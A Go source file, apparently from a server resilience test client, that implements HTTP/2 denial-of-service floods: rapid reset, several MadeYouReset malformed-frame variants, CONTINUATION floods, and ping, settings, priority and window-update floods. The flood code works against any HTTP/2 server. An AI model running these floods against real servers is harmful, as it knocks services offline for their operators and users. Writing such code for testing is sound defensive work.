package main

import (
	"edge.test/clients/peer"
	"golang.org/x/net/http2"
)

// flood is one kind of frame that costs the sender little and the server much.
type flood struct {
	settings []http2.Setting
	// prepare runs once; send writes one unit of the flood.
	prepare func(framer *http2.Framer, state *floodState) error
	send    func(framer *http2.Framer, state *floodState) error
	// piece is how many units are sent before the server's opinion is asked for.
	piece int
	// blind floods leave no room for other frames.
	blind bool
}

// floodState is what a flood keeps on its connection.
type floodState struct {
	conn   *peer.H2
	stream uint32
	turn   uint32
}

// floods: the rows 8 to 10 of the goal table, by name. MadeYouReset makes the server reset the
// stream, by six faults of the client after a whole request.
var floods = map[string]flood{
	"rapid-reset": {piece: 25, send: func(framer *http2.Framer, state *floodState) error {
		id, err := state.request(framer, true)
		if err != nil {
			return err
		}
		return framer.WriteRSTStream(id, http2.ErrCodeCancel)
	}},
	"made-you-reset-window-zero": madeYouReset(func(framer *http2.Framer, id uint32) error {
		return framer.WriteRawFrame(http2.FrameWindowUpdate, 0, id, []byte{0, 0, 0, 0})
	}),
	"made-you-reset-window-overflow": madeYouReset(func(framer *http2.Framer, id uint32) error {
		return framer.WriteWindowUpdate(id, 1<<31-1)
	}),
	"made-you-reset-data": madeYouReset(func(framer *http2.Framer, id uint32) error {
		return framer.WriteData(id, true, []byte("x"))
	}),
	"made-you-reset-headers": madeYouReset(func(framer *http2.Framer, id uint32) error {
		// 0x10 0 1 x 1 y would do as well; an empty block needs no table.
		return framer.WriteHeaders(http2.HeadersFrameParam{
			StreamID: id, EndStream: true, EndHeaders: true,
		})
	}),
	"made-you-reset-priority-length": madeYouReset(func(framer *http2.Framer, id uint32) error {
		return framer.WriteRawFrame(http2.FramePriority, 0, id, []byte{0, 0, 0, 0})
	}),
	"made-you-reset-priority-self": madeYouReset(func(framer *http2.Framer, id uint32) error {
		return framer.WritePriority(id, http2.PriorityParam{StreamDep: id, Weight: 15})
	}),
	"continuation": {piece: 25, blind: true, prepare: openBlock,
		send: func(framer *http2.Framer, state *floodState) error {
			// A literal field without indexing: "x: y".
			return framer.WriteContinuation(state.stream, false, []byte{0, 1, 'x', 1, 'y'})
		}},
	"continuation-empty": {piece: 25, blind: true, prepare: openBlock,
		send: func(framer *http2.Framer, state *floodState) error {
			return framer.WriteContinuation(state.stream, false, nil)
		}},
	"settings": {piece: 50, send: func(framer *http2.Framer, _ *floodState) error {
		return framer.WriteSettings()
	}},
	"ping": {piece: 50, send: func(framer *http2.Framer, state *floodState) error {
		state.turn++
		return framer.WritePing(false, [8]byte{byte(state.turn), byte(state.turn >> 8)})
	}},
	"priority": {piece: 50, send: func(framer *http2.Framer, state *floodState) error {
		state.turn += 2
		priority := http2.PriorityParam{StreamDep: 0, Weight: byte(state.turn)}
		return framer.WritePriority(1<<20+1+state.turn, priority)
	}},
	"empty-data": {piece: 50, prepare: openBody,
		send: func(framer *http2.Framer, state *floodState) error {
			return framer.WriteData(state.stream, false, nil)
		}},
	"window-update": {piece: 50, send: func(framer *http2.Framer, _ *floodState) error {
		return framer.WriteWindowUpdate(0, 1)
	}},
	"window-update-stream": {piece: 50, prepare: openBody,
		send: func(framer *http2.Framer, state *floodState) error {
			return framer.WriteWindowUpdate(state.stream, 1)
		}},
}

func madeYouReset(fault func(framer *http2.Framer, id uint32) error) flood {
	return flood{piece: 25, send: func(framer *http2.Framer, state *floodState) error {
		id, err := state.request(framer, true)
		if err != nil {
			return err
		}
		return fault(framer, id)
	}}
}

// request writes the head of a request that nobody here waits for.
func (state *floodState) request(framer *http2.Framer, end bool) (uint32, error) {
	id := state.conn.NextStream()
	method := "GET"
	if !end {
		method = "POST"
	}
	block := state.conn.Encode([]peer.Field{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: peer.ServerName}, {Name: ":path", Value: "/flood"},
	})
	return id, framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: end,
	})
}

// openBlock leaves a header block open.
func openBlock(framer *http2.Framer, state *floodState) error {
	state.stream = state.conn.NextStream()
	block := state.conn.Encode([]peer.Field{{Name: ":method", Value: "GET"}})
	return framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: state.stream, BlockFragment: block, EndStream: true,
	})
}

// openBody leaves a request body open.
func openBody(framer *http2.Framer, state *floodState) (err error) {
	state.stream, err = state.request(framer, false)
	return err
}
